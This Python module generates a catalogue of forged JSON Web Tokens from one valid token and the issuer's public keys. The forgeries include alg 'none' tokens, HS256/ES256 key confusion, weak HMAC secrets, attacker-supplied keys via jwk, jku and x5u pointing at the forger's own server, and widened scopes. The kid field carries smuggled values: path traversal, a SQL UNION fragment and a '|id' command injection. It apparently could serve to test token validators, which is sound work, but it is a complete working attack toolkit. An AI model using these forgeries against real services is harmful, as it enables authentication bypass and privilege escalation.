"""Every forgery of a JWT that we know, made from a real token and the issuer's public keys."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

KIDS = ("../../../../dev/null", "/dev/null", "x' UNION SELECT 'a", "|id", "nonexistent")


def b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def compact(value: Any) -> str:
    return b64(json.dumps(value, separators=(",", ":")).encode())


class Forger:
    """Somebody with a token that is good, keys of his own, and a web server for those."""

    def __init__(self, good: str, jwks: dict[str, Any], place: str) -> None:
        self.good = good
        self.place = place
        self.head, self.body, self.signature = good.split(".")
        self.header, self.claims = json.loads(unb64(self.head)), json.loads(unb64(self.body))
        self.key = next(key for key in jwks["keys"] if key["kid"] == self.header["kid"])
        self._rsa = rsa.generate_private_key(65537, 2048)
        self._ec = ec.generate_private_key(ec.SECP256R1())

    def jwk(self, **members: str) -> dict[str, str]:
        numbers = self._rsa.public_key().public_numbers()
        n, e = (number.to_bytes((number.bit_length() + 7) // 8, "big") for number in (numbers.n, numbers.e))
        return {"kty": "RSA", "n": b64(n), "e": b64(e), "alg": "RS256", "use": "sig", "kid": "mine", **members}

    def rs256(self, claims: dict[str, Any] | None = None, **members: Any) -> str:
        message = self._message(claims, alg="RS256", **members)
        return f"{message}.{b64(self._rsa.sign(message.encode(), padding.PKCS1v15(), hashes.SHA256()))}"

    def es256(self, claims: dict[str, Any] | None = None, **members: Any) -> str:
        message = self._message(claims, alg="ES256", **members)
        r, s = decode_dss_signature(self._ec.sign(message.encode(), ec.ECDSA(hashes.SHA256())))
        return f"{message}.{b64(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"

    def hs256(self, secret: bytes, **members: Any) -> str:
        message = self._message(None, alg="HS256", **members)
        return f"{message}.{b64(hmac.new(secret, message.encode(), hashlib.sha256).digest())}"

    def unsigned(self, alg: str, signature: str = "") -> str:
        return f"{compact({**self.header, 'alg': alg})}.{self.body}.{signature}"

    def _message(self, claims: dict[str, Any] | None, **members: Any) -> str:
        header = {name: value for name, value in {**self.header, **members}.items() if value is not None}
        return f"{compact(header)}.{compact(self.claims if claims is None else claims)}"


def forgeries(forger: Forger) -> dict[str, str]:
    """Return what each would-be token is called, and its text."""
    head, body, signature = forger.head, forger.body, forger.signature
    wider = compact({**forger.claims, "scope": "read:calendar write:calendar delete:calendar"})
    flipped = bytearray(unb64(signature))
    flipped[-1] ^= 1
    ours = forger.header["kid"]
    attacker = {**forger.claims, "iss": forger.place}
    twice = b64(b'{"alg":"none",' + json.dumps(forger.header)[1:].encode())
    return {
        **{f"no signature, alg {alg!r}": forger.unsigned(alg) for alg in ("none", "None", "NONE", "nOnE", "")},
        "alg none over the good signature": forger.unsigned("none", signature),
        "the signature taken off": f"{head}.{body}.",
        "more scope under the good signature": f"{head}.{wider}.{signature}",
        "one bit of the signature": f"{head}.{body}.{b64(bytes(flipped))}",
        **{f"HS256 with the public key as its secret: {name}": text for name, text in _confused(forger).items()},
        **{f"HS256 with the secret {secret!r}": forger.hs256(secret) for secret in (b"", b"secret", b"\0")},
        **{f"HS256 with kid {kid!r} and no secret": forger.hs256(b"", kid=kid) for kid in KIDS},
        "an own RSA key under the issuer's kid": forger.rs256(kid=ours),
        "an own RSA key under its own kid": forger.rs256(kid="mine"),
        "an own RSA key without kid": forger.rs256(kid=None),
        "an own key of the right kind": forger.es256(kid=ours),
        "a key that the token brings along": forger.rs256(jwk=forger.jwk()),
        "keys at an address that the token names": forger.rs256(jku=f"{forger.place}/jwks"),
        "a certificate at an address that the token names": forger.rs256(x5u=f"{forger.place}/jwks"),
        "another issuer": forger.rs256(attacker),
        "another issuer, with the right algorithm": forger.es256(attacker),
        "the signature of zeros": f"{head}.{body}.{b64(bytes(64))}",
        "two members alg": f"{twice}.{body}.{signature}",
        "a critical extension nobody knows": forger.es256(crit=["b64"], b64=False),
        "five parts": f"{forger.good}.AAAA.AAAA",
        "two tokens": f"{forger.good},{forger.good}",
        "no JWT at all": "aaaa.bbbb.cccc",
        "a signature of 12 KiB": f"{head}.{'A' * 12_288}.{signature}",
    }


def _confused(forger: Forger) -> dict[str, str]:
    key = forger.key
    x, y = (int.from_bytes(unb64(key[name]), "big") for name in ("x", "y"))
    public = ec.EllipticCurvePublicNumbers(x, y, ec.SECP256R1()).public_key()
    info = serialization.PublicFormat.SubjectPublicKeyInfo
    pem = public.public_bytes(serialization.Encoding.PEM, info)
    der = public.public_bytes(serialization.Encoding.DER, info)
    whole = json.dumps(key, separators=(",", ":")).encode()
    spellings = {"PEM": pem, "PEM without its end": pem.strip(), "DER": der, "x": key["x"].encode(), "JWK": whole}
    return {name: forger.hs256(secret) for name, secret in spellings.items()}
